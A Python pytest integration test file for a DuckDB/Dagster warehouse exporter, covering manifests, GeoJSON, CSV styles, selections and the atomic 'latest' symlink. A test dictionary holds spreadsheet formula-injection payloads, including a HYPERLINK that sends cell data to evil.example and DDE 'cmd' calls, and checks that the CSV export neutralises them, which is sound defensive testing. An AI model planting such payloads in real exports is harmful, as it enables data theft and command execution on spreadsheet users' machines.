"""Exports for dashboards: files that match their manifest, safe CSV, valid GeoJSON, atomic `latest`."""

from __future__ import annotations

import csv
import hashlib
import json
import os
from pathlib import Path

import dagster as dg
import duckdb
import pytest

from pipelines.warehouse.exports import CsvStyle, ExportError, ExportSelection, export_warehouse

pytestmark = pytest.mark.integration

MALICIOUS = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")": "formula",
    "+33 cmd|' /C calc'!A0": "plus",
    "-2+3+cmd|' /C calc'!A0": "minus",
    "@SUM(1+1)*cmd|' /C calc'!A0": "at",
    "\t=1+1": "tab",
    "\r=1+1": "carriage return",
}


def scalar(path: Path, sql: str, params=()):
    with duckdb.connect(str(path), read_only=True) as con:
        return con.execute(sql, list(params)).fetchone()[0]


def read_manifest(folder: Path) -> dict:
    return json.loads((folder / "manifest.json").read_text(encoding="utf-8"))


def read_csv_rows(path: Path, separator: str = ",") -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle, delimiter=separator))


# ------------------------------------------------------------------- the publish export


def test_each_build_exports_after_publishing_and_latest_points_at_it(sample_build):
    home, _ = sample_build
    latest = home.exports / "latest"
    assert latest.is_symlink() and latest.is_dir()
    build_id = scalar(home.warehouse, "select build_id from meta.about")
    assert os.readlink(latest) == build_id  # relative link to exports/<build id>
    manifest = read_manifest(latest)
    assert manifest["build_id"] == build_id and manifest["complete"] is True
    assert manifest["skipped"] == []
    exported = {(f["table"], f["format"]) for f in manifest["files"]}
    for table in ("indicators.long", "indicators.commune", "indicators.catalogue", "geo.commune", "geo.epci",
                  "geo.departement", "geo.region", "geo.commune_passage"):  # fmt: skip
        assert {(table, "parquet"), (table, "csv")} <= exported
    assert ("indicators.commune", "geojson") in exported
    # the sample says so, the sources are credited under their licences, snapshots are listed
    assert manifest["sample_data"] is True and "Sample data" in manifest["notice"]
    licences = {entry["source"]: entry["licence"] for entry in manifest["licences"]}
    assert licences["sncf_stations"].startswith("Open Database License (ODbL)")
    assert licences["insee_population"].startswith("Licence Ouverte")
    assert any(line.startswith("SNCF") and "ODbL" in line for line in manifest["attribution"])
    loaded = scalar(home.warehouse, "select count(distinct snapshot_sha256) from meta.raw_load_snapshots")
    assert len({s["sha256"] for s in manifest["source_snapshots"]}) == loaded > 0
    assert all(s["url"] and s["bytes"] for s in manifest["source_snapshots"])
    catalogue = {entry["indicator_id"]: entry for entry in manifest["indicators"]}
    assert catalogue["population"]["vintages"] and catalogue["population"]["label_fr"]


def test_the_manifest_matches_the_files(sample_build):
    home, _ = sample_build
    folder = (home.exports / "latest").resolve()
    manifest = read_manifest(folder)
    listed = {f["path"] for f in manifest["files"]}
    assert listed | {"manifest.json"} == {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}
    con = duckdb.connect()
    con.execute("load spatial")
    for entry in manifest["files"]:
        path = folder / entry["path"]
        assert hashlib.sha256(path.read_bytes()).hexdigest() == entry["sha256"], entry["path"]
        assert path.stat().st_size == entry["bytes"]
        names = [c["name"] for c in entry["columns"]]
        if entry["format"] == "parquet":
            relation = con.sql(f"select * from read_parquet('{path}')")
            assert relation.columns == names
            assert con.sql(f"select count(*) from read_parquet('{path}')").fetchone()[0] == entry["rows"]
        elif entry["format"] == "csv":
            with path.open(encoding="utf-8", newline="") as handle:
                header, *rows = list(csv.reader(handle))
            assert header == names and len(rows) == entry["rows"]
        elif entry["format"] == "gpkg":
            assert con.sql(f"select count(*) from st_read('{path}')").fetchone()[0] == entry["rows"]
        else:
            features = json.loads(path.read_text(encoding="utf-8"))["features"]
            assert len(features) == entry["rows"]
            assert list(features[0]["properties"]) == names[:-1] and names[-1] == "geometry"
    # each table has the same columns and types as in the warehouse
    long_columns = next(f["columns"] for f in manifest["files"] if f["path"] == "indicators_long.parquet")
    with duckdb.connect(str(home.warehouse), read_only=True) as wh:
        described = wh.execute("describe indicators.long").fetchall()
    assert [(c["name"], c["type"]) for c in long_columns] == [(row[0], row[1]) for row in described]


def test_geojson_is_a_feature_collection_of_every_commune_in_lon_lat(sample_build):
    home, _ = sample_build
    collection = json.loads((home.exports / "latest" / "communes.geojson").read_text(encoding="utf-8"))
    assert collection["type"] == "FeatureCollection"
    with duckdb.connect(str(home.warehouse), read_only=True) as con:
        communes = dict(con.execute("select commune_code, zone from indicators.commune").fetchall())
        population = dict(con.execute("select commune_code, population from indicators.commune").fetchall())
    seen = {}
    for feature in collection["features"]:
        assert feature["type"] == "Feature"
        geometry, properties = feature["geometry"], feature["properties"]
        assert geometry["type"] == "Point" and len(geometry["coordinates"]) == 2
        lon, lat = geometry["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        if properties["zone"] == "metro":  # WGS84 in lon/lat order: metropolitan France
            assert -5.8 <= lon <= 10 and 41 <= lat <= 51.6
        assert isinstance(properties["population"], (int, float)) and properties["population"] == population[properties["commune_code"]]
        seen[properties["commune_code"]] = properties["point_kind"]
    assert set(seen) == set(communes) and len(collection["features"]) == len(communes)
    assert set(seen.values()) <= {"town_hall", "centre"}


def test_every_level_is_exported_as_polygons_in_geojson_and_one_geopackage(sample_build):
    home, _ = sample_build
    folder = home.exports / "latest"
    with duckdb.connect(str(home.warehouse), read_only=True) as con:
        areas = dict(con.execute("select level, count(*) from geo.shapes group by level").fetchall())
        epci_names = dict(con.execute("select epci_code, epci_name from geo.epci").fetchall())
    assert {"commune", "epci", "departement", "region", "canton", "bassin_vie"} <= set(areas)
    for level, count in areas.items():
        collection = json.loads((folder / "shapes" / f"{level}.geojson").read_text(encoding="utf-8"))
        assert len(collection["features"]) == count
        assert {f["geometry"]["type"] for f in collection["features"]} <= {"Polygon", "MultiPolygon"}
        assert all(f["properties"]["level"] == level and f["properties"]["name"] for f in collection["features"])
        if level == "epci":
            assert {f["properties"]["code"]: f["properties"]["name"] for f in collection["features"]} == epci_names
    with duckdb.connect() as con:
        con.execute("load spatial")
        layer = dict(con.execute(f"select level, count(*) from st_read('{folder / 'shapes.gpkg'}') group by level").fetchall())
        lon, lat = con.execute(
            f"select st_x(st_centroid(geom)), st_y(st_centroid(geom)) from st_read('{folder / 'shapes.gpkg'}') where code = '71' and level = 'departement'"
        ).fetchone()
    assert layer == areas
    assert 3.5 < lon < 5.5 and 46 < lat < 47.5  # WGS84 lon/lat: Saône-et-Loire's sample communes


def test_negative_numbers_stay_numbers_in_csv(sample_build, tmp_path):
    home, _ = sample_build
    negatives = scalar(home.warehouse, "select count(*) from indicators.long where value < 0")
    assert negatives > 0, "the sample should have a falling population somewhere"
    rows = read_csv_rows(home.exports / "latest" / "indicators_long.csv")
    cells = [row["value"] for row in rows if row["value"].startswith(("-", "'-"))]
    assert len(cells) == negatives and all(float(cell) < 0 for cell in cells)  # no quote, parses as a number

    # the Excel style: `;`, BOM, decimal comma; negative numbers still bare
    style = CsvStyle(separator=";", bom=True, decimal_comma=True)
    report = export_warehouse(home.warehouse, tmp_path, ExportSelection(indicators=("population_change_rate",), formats=("csv",), csv=style))
    path = report.path / "indicators_long.csv"
    assert path.read_bytes().startswith(b"\xef\xbb\xbfindicator_id;level;")
    values = [row["value"] for row in read_csv_rows(path, ";") if row["value"]]
    negative = [v for v in values if v.startswith("-")]
    falling = scalar(home.warehouse, "select count(*) from indicators.long where value < 0 and indicator_id = 'population_change_rate'")
    assert len(negative) == falling > 0 and all(float(v.replace(",", ".")) < 0 for v in negative)
    assert not any(v.startswith("'") for v in values)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(sample_build_copy, tmp_path):
    home = sample_build_copy
    codes = [row[0] for row in duckdb.connect(str(home.warehouse), read_only=True).execute(
        "select commune_code from geo.commune order by 1 limit ?", [len(MALICIOUS)]).fetchall()]  # fmt: skip
    with duckdb.connect(str(home.warehouse)) as con:  # the published copy: exports read nothing else
        for code, name in zip(codes, MALICIOUS):
            con.execute("update geo.commune set commune_name = ? where commune_code = ?", [name, code])
            con.execute("update indicators.commune set commune_name = ? where commune_code = ?", [name, code])
    for separator in (",", ";"):
        style = CsvStyle(separator=separator, bom=separator == ";")
        report = export_warehouse(home.warehouse, tmp_path / separator, ExportSelection(levels=("commune",), formats=("csv", "parquet"), csv=style))
        for stem in ("geo_commune", "indicators_commune"):
            names = {row["commune_code"]: row["commune_name"] for row in read_csv_rows(report.path / f"{stem}.csv", separator)}
            for code, name in zip(codes, MALICIOUS):
                assert names[code] == "'" + name, f"{MALICIOUS[name]} in {stem}.csv"
            assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names.values())
        # Parquet keeps the text as it is: it is data, not a sheet
        parquet = report.path / "geo_commune.parquet"
        kept = duckdb.sql(f"select commune_name from read_parquet('{parquet}') where commune_code = '{codes[0]}'").fetchone()[0]
        assert kept == next(iter(MALICIOUS))


# ------------------------------------------------------------------------ selections


def test_filters_narrow_the_export_and_leave_latest_alone(sample_build, tmp_path):
    import openpyxl

    home, _ = sample_build
    selection = ExportSelection(levels=("commune", "departement"), indicators=("gp_apl", "density_level"), formats=("parquet", "xlsx", "geojson"))
    report = export_warehouse(home.warehouse, tmp_path, selection)
    assert report.path.name.endswith("-partial") and not report.latest
    assert not (tmp_path / "latest").exists()
    files = {f["path"]: f for f in report.manifest["files"]}
    assert "geo_epci.parquet" not in files and "geo_departement.parquet" in files
    long = duckdb.sql(f"select distinct indicator_id, level from read_parquet('{report.path / 'indicators_long.parquet'}') order by all").fetchall()
    assert long == [("density_level", "commune"), ("density_level", "departement"), ("gp_apl", "commune"), ("gp_apl", "departement")]
    wide = [c["name"] for c in files["indicators_commune.parquet"]["columns"]]
    assert wide[-5:] == ["density_level", "density_level_label", "density_level_vintage", "gp_apl", "gp_apl_vintage"]
    assert "gp_apl_under_65" not in wide and "commune_name" in wide
    assert [i["indicator_id"] for i in report.manifest["indicators"]] == ["density_level", "gp_apl"]
    sheet = openpyxl.load_workbook(report.path / "indicators_long.xlsx", read_only=True)["indicators_long"]
    header, *rows = list(sheet.iter_rows(values_only=True))
    assert header[:4] == ("indicator_id", "level", "code", "vintage")
    value = header.index("value")
    # numbers are numbers in the sheet; an absent value is an empty cell
    assert all(row[value] is None or isinstance(row[value], float) for row in rows)
    assert any(row[value] is None for row in rows) and sum(isinstance(row[value], float) for row in rows) > 100
    assert files["indicators_long.xlsx"]["rows"] == files["indicators_long.parquet"]["rows"] == len(rows)

    with pytest.raises(ExportError, match="unknown indicator not_an_indicator"):
        export_warehouse(home.warehouse, tmp_path, ExportSelection(indicators=("not_an_indicator",)))
    assert sorted(p.name for p in tmp_path.iterdir()) == [report.path.name]  # failures leave nothing


def test_programme_tables_are_exported_when_the_schema_exists(sample_build_copy, tmp_path):
    home = sample_build_copy
    with duckdb.connect(str(home.warehouse)) as con:  # a warehouse from before the programmes
        con.execute("drop schema if exists programmes cascade")
    with pytest.raises(ExportError, match="no programmes schema"):
        export_warehouse(home.warehouse, tmp_path, ExportSelection(programmes=("cafes",)))
    assert "programmes_targets.parquet" not in {
        f["path"] for f in export_warehouse(home.warehouse, tmp_path / "none", ExportSelection(formats=("parquet",))).manifest["files"]
    }
    with duckdb.connect(str(home.warehouse)) as con:  # programmes of our own, in the layout of the design
        con.execute("create schema programmes")
        con.execute(
            "create table programmes.cafes_targets as select commune_code, row_number() over (order by commune_code) as rank, "
            "true as eligible, '-1 café' as reasons from geo.commune"
        )
        con.execute("create table programmes.seniors_targets as select commune_code, 1 as rank from geo.commune")
        con.execute(
            "create table programmes.targets as select 'cafes' as programme, commune_code from programmes.cafes_targets "
            "union all select 'seniors', commune_code from programmes.seniors_targets"
        )
    everything = export_warehouse(home.warehouse, tmp_path / "all", ExportSelection(formats=("parquet",)))
    stems = {f["path"] for f in everything.manifest["files"]}
    assert {"programmes_cafes_targets.parquet", "programmes_seniors_targets.parquet", "programmes_targets.parquet"} <= stems

    cafes = export_warehouse(home.warehouse, tmp_path / "cafes", ExportSelection(programmes=("cafes",), formats=("csv",)))
    files = {f["path"]: f for f in cafes.manifest["files"]}
    assert set(files) == {"indicators_catalogue.csv", "programmes_cafes_targets.csv", "programmes_targets.csv"}
    assert files["programmes_targets.csv"]["rows"] == files["programmes_cafes_targets.csv"]["rows"] == 266
    assert read_csv_rows(cafes.path / "programmes_cafes_targets.csv")[0]["reasons"] == "'-1 café"
    with pytest.raises(ExportError, match="unknown programme hospitals; programmes in this warehouse: cafes, seniors"):
        export_warehouse(home.warehouse, tmp_path, ExportSelection(programmes=("hospitals",)))


# ---------------------------------------------------------------- latest, Dagster, CLI


def test_latest_switches_atomically_and_keeps_earlier_exports(sample_build_copy, monkeypatch):
    import pipelines.warehouse.exports as exports
    from assets.exports import latest_exports
    from assets.warehouse import published_warehouse
    from pipelines.orchestration.resources import DataHomeLock, WarehouseResource

    home = sample_build_copy
    first = os.readlink(home.exports / "latest")
    first_manifest = read_manifest(home.exports / first)

    # a failing export leaves no folder behind and `latest` where it was
    def broken(con, folder, selection, previous=None):
        (folder / "indicators_long.parquet").write_bytes(b"half")
        raise OSError("disk full")

    monkeypatch.setattr(exports, "_write_export", broken)
    with pytest.raises(OSError, match="disk full"):
        export_warehouse(home.warehouse, home.exports)
    monkeypatch.undo()
    assert os.readlink(home.exports / "latest") == first
    assert sorted(p.name for p in home.exports.iterdir()) == sorted([first, "latest"])

    # publish again through Dagster: the export asset runs after it and switches `latest`
    replaced = []
    real_replace = os.replace
    monkeypatch.setattr(os, "replace", lambda src, dst: (replaced.append((Path(src), Path(dst))), real_replace(src, dst))[1])
    resources = {"warehouse": WarehouseResource(home=str(home.root)), "home_lock": DataHomeLock(home=str(home.root))}
    result = dg.materialize([published_warehouse, latest_exports], resources=resources)
    assert result.success
    materialized = {e.asset_key.to_user_string() for e in result.get_asset_materialization_events()}
    assert materialized == {"warehouse/published", "exports/latest"}
    second = scalar(home.warehouse, "select build_id from meta.about")
    assert second != first and os.readlink(home.exports / "latest") == second
    in_exports = [(src.name, dst.name) for src, dst in replaced if dst.parent == home.exports]
    assert len(in_exports) == 1 and in_exports[0][1] == "latest" and in_exports[0][0].startswith(".latest-")  # one rename of a new link
    assert read_manifest(home.exports / first) == first_manifest  # the earlier export is kept untouched
    assert sorted(p.name for p in home.exports.iterdir()) == sorted([first, second, "latest"])  # no temporary left

    # names and types are the same from one build to the next
    def schema(manifest):
        return {f["path"]: [(c["name"], c["type"]) for c in f["columns"]] for f in manifest["files"]}

    second_manifest = read_manifest(home.exports / second)
    assert schema(second_manifest) == schema(first_manifest)
    assert second_manifest["schema_compared_with"] == first and second_manifest["schema_changes"] == []


def test_a_changed_name_or_type_is_reported_against_the_previous_export(sample_build_copy):
    home = sample_build_copy
    with duckdb.connect(str(home.warehouse)) as con:
        con.execute("alter table geo.region alter column commune_count type double")
        con.execute("alter table geo.epci drop column financing_mode")
        con.execute("alter table geo.epci add column president varchar")
    report = export_warehouse(home.warehouse, home.exports, ExportSelection())
    assert report.latest and report.path.name.endswith(".2")  # same build id: a second folder, the first kept
    changes = [c for c in report.manifest["schema_changes"] if c["path"].endswith(".parquet")]
    assert changes == [
        {"path": "geo_epci.parquet", "column": "financing_mode", "change": "removed", "type": "VARCHAR"},
        {"path": "geo_epci.parquet", "column": "president", "change": "added", "type": "VARCHAR"},
        {"path": "geo_region.parquet", "column": "commune_count", "change": "retyped", "from": "BIGINT", "to": "DOUBLE"},
    ]


def test_the_export_command(sample_build_copy, monkeypatch, tmp_path):
    from click.testing import CliRunner

    from pipelines.cli import main

    monkeypatch.setenv("TERRITOIRES_HOME", str(sample_build_copy.root))
    out = tmp_path / "out"
    result = CliRunner().invoke(
        main, ["export", "--level", "commune", "--indicator", "gp_apl,population", "--format", "csv",
               "--csv-separator", ";", "--csv-bom", "--out", str(out)],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "indicators_long.csv" in result.output and "latest` unchanged" in result.output
    (folder,) = out.iterdir()
    rows = read_csv_rows(folder / "indicators_long.csv", ";")
    assert {r["indicator_id"] for r in rows} == {"gp_apl", "population"} and {r["level"] for r in rows} == {"commune"}

    result = CliRunner().invoke(main, ["export", "--indicator", "nope"])
    assert result.exit_code == 1 and "unknown indicator nope" in result.output
